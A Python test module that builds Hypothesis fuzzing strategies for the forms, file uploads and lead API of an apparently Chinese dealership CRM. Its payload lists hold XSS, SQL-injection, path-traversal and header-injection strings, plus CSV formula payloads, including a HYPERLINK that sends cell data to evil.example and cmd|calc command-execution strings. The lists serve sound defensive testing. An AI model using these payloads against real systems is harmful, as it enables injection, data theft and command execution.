"""The hostile inputs: Hypothesis strategies for one form field, one request, one API body.

Each class of payload the battery promises (issue 10) is a named list below, so a reader can
see what is tried; the strategies mix them with generated text so that Hypothesis also finds
what nobody listed.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field

from hypothesis import strategies as st

# The markers the reflection check looks for: they are only dangerous unescaped.
SCRIPT = "<script>alert(1)</script>"
IMG_ONERROR = '"><img src=x onerror=alert(1)>'
RAW_MARKERS = ("<script>alert(1)", "<img src=x onerror=alert(1)>")

SIZES = ["", " ", "\t\n", "a" * 256, "長" * 4097, "x" * 70_000]
CONTROL = ["\x00", "a\x00b", "\x01\x02\x07\x08\x1b[31m红\x1b[0m", "\r\nSet-Cookie: x=1",
           "line1\rline2\u2028line3", "\x7f\x85\x9f"]
UNICODE = ["\u202e\u0644\u0627\u0645\u202cabc", "\u200b\u200c\u200d\ufeff", "\u2066\u2069",
           "😀👍🏽🇨🇳👨‍👩‍👧", "e\u0301\u0301\u0301", "𠮷野家", "ＡＢＣ１２３", "İı"]
MARKUP = [SCRIPT, IMG_ONERROR, "' OR 1=1 --", "'; DROP TABLE leads_lead; --",
          "{{ 7|add:7 }}{% debug %}", "${7*7}", "javascript:alert(1)", "../../etc/passwd",
          "%00%0d%0a", "</textarea><script>alert(1)</script>",
          "<svg/onload=alert(1)>", "&lt;script&gt;"]
CSV_FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
IDENTITIES = ["1381234567", "138123456789", "+86 138 1234 5678x", "00000000000", "+1",
              "11010519491231002Y", "110105194912310021", "11010519491231002X" * 3,
              "LVGBM53E0KG00000I", "LVGBM53E0KG00000", "ABCDEFGHIJKLMNOPQ", "ＬＶＧ１２３"]
NUMBERS = ["-1", "0", "-0.01", "NaN", "nan", "Infinity", "-Infinity", "inf", "1e309",
           "1e-400", "99999999999999999999", "-99999999999999999999",
           "9999999999999999999999999.99", "12345678901234567890.123456", "0x10", "1_000",
           "１２３", "3.14159265358979323846", "2147483648", "9223372036854775808", "1,000"]
DATES = ["0001-01-01", "9999-12-31", "2026-02-30", "1900-01-01", "1899-12-31", "0000-00-00",
         "2026-13-01", "99999-01-01", "-2026-01-01", "0001-01-01T00:00", "9999-12-31T23:59",
         "0001-01-01 00:00", "9999-12-31 23:59:59", "2026-03-29T02:30", "2026-12-06T25:61",
         "1970-01-01T00:00:00Z", "2026-12-06T10:00+14:00", "10:00", "24:00", "99:99"]
ALL = SIZES + CONTROL + UNICODE + MARKUP + CSV_FORMULAS + IDENTITIES + NUMBERS + DATES

DATE_LIKE = re.compile(r"^\d{4}-\d{2}-\d{2}([ T]\d{2}:\d{2}(:\d{2})?)?$")
NUMBER_LIKE = re.compile(r"^-?\d+(\.\d+)?$")

# Generated text: every Unicode category the forms must survive (Cc control, Cf format
# such as the RTL override, Zs/Zl spaces, So emoji), but no lone surrogates, which cannot
# travel in a UTF-8 request at all.
generated_text = st.text(
    st.characters(categories=["L", "M", "N", "P", "S", "Zs", "Zl", "Zp", "Cc", "Cf"]),
    max_size=80)


def field_value(baseline: str) -> st.SearchStrategy[str]:
    """A hostile value for a field whose valid value is `baseline`, biased by its type."""
    typed: list[str] = []
    if DATE_LIKE.match(baseline):
        typed = DATES
    elif NUMBER_LIKE.match(baseline):
        typed = NUMBERS
    listed = st.sampled_from(ALL)
    if typed:
        return st.one_of(st.sampled_from(typed), st.sampled_from(typed), listed, generated_text)
    return st.one_of(listed, generated_text)


FILE_CONTENTS = [
    b"", b"\x00" * 64, b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, b"GIF89a<script>alert(1)</script>",
    "name,phone,channel\n张三,13812345678,website\n".encode(),
    ("name,phone,channel,note\n" + f'"{SCRIPT}",13812345678,website,"=1+1"\n').encode("gb18030"),
    b"\xef\xbb\xbfname,phone\n\xff\xfe\x00bad", b"name,phone\n" + b"a," * 5000 + b"\n",
]
FILE_NAMES = ["x.csv", "../../etc/passwd", "a\x00.png", f"{SCRIPT}.png", "长" * 200 + ".jpg",
              "photo.PNG", " ", ".htaccess"]


@dataclass
class Mutation:
    """What one example does to a form: per field, keep / replace / drop / repeat."""

    values: dict[str, list[str]] = field(default_factory=dict)
    files: dict[str, tuple[str, bytes]] = field(default_factory=dict)
    encoding: str = "multipart"
    htmx: bool = False


ENCODINGS = ["multipart", "multipart", "urlencoded", "urlencoded", "json", "text"]


@st.composite
def mutations(draw, baseline: dict[str, list[str]],
              file_fields: dict[str, tuple[str, bytes] | None]) -> Mutation:
    """A request built from a form's valid `baseline` with some fields made hostile."""
    values: dict[str, list[str]] = {}
    for name, valid in baseline.items():
        first = valid[0] if valid else ""
        op = draw(st.sampled_from(["keep", "keep", "hostile", "hostile", "missing", "repeat"]))
        if op == "keep":
            values[name] = list(valid)
        elif op == "hostile":
            values[name] = [draw(field_value(first))]
        elif op == "repeat":
            values[name] = [draw(field_value(first)), first]
    if draw(st.booleans()):
        values[draw(st.sampled_from(["id", "pk", "store", "owner", "status", "__all__",
                                     "csrfmiddlewaretoken"]))] = [draw(field_value("1"))]
    files = {}
    for name, valid_file in file_fields.items():
        op = draw(st.sampled_from(["keep", "hostile", "hostile", "missing"]))
        if op == "keep" and valid_file is not None:
            files[name] = valid_file
        elif op == "hostile":
            files[name] = (draw(st.sampled_from(FILE_NAMES)), draw(st.sampled_from(FILE_CONTENTS)))
    return Mutation(values=values, files=files, encoding=draw(st.sampled_from(ENCODINGS)),
                    htmx=draw(st.booleans()))


def queries(valid: dict) -> st.SearchStrategy[dict]:
    """The query string an endpoint reads its object from, now and then made hostile."""
    if not valid:
        return st.just({})
    return st.one_of(st.just(valid), st.just(valid), st.builds(
        lambda name, value: {**valid, name: value},
        st.sampled_from(sorted(valid)), field_value("1")))


# --- The lead API ------------------------------------------------------------------------
API_VALID = {"name": "王小明", "phone": "13812345678", "channel": "website",
             "external_id": "web-1", "model_interest": "凯美瑞", "purchase_window": "1m",
             "budget_min": 150000, "budget_max": 200000, "city": "深圳", "note": "想试驾",
             "marketing_consent": False}

json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True), st.sampled_from(ALL), generated_text)
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=6)


@st.composite
def api_bodies(draw) -> tuple[bytes, str]:
    """(body, content type) for POST /api/v1/leads: mostly JSON objects near a valid one."""
    kind = draw(st.sampled_from(["object", "object", "object", "object", "raw", "form"]))
    if kind == "raw":
        body = draw(st.sampled_from([b"", b"null", b"[]", b"\"x\"", b"{", b"\xff\xfe{}",
                                     b'{"name": "a", "name": "b"}', b"{}" * 10,
                                     b"[" * 5000 + b"]" * 5000, b'{"a":' * 2000 + b"1" +
                                     b"}" * 2000, b"\x00", json.dumps(API_VALID).encode("utf-16")]))
        return body, draw(st.sampled_from(["application/json", "text/plain"]))
    data: dict = {}
    for name, valid in API_VALID.items():
        op = draw(st.sampled_from(["keep", "keep", "hostile", "missing"]))
        if op == "keep":
            data[name] = valid
        elif op == "hostile":
            data[name] = draw(st.one_of(field_value(str(valid)), json_values))
    if draw(st.booleans()):
        data[draw(st.sampled_from(["id", "store", "owner", "grade", "extra"]))] = draw(json_values)
    if kind == "form":
        from urllib.parse import urlencode
        return urlencode({k: str(v) for k, v in data.items()}).encode(), \
            "application/x-www-form-urlencoded"
    return json.dumps(data, ensure_ascii=draw(st.booleans()), allow_nan=True).encode(), \
        draw(st.sampled_from(["application/json", "application/json; charset=utf-8",
                              "multipart/form-data; boundary=x", "text/plain"]))
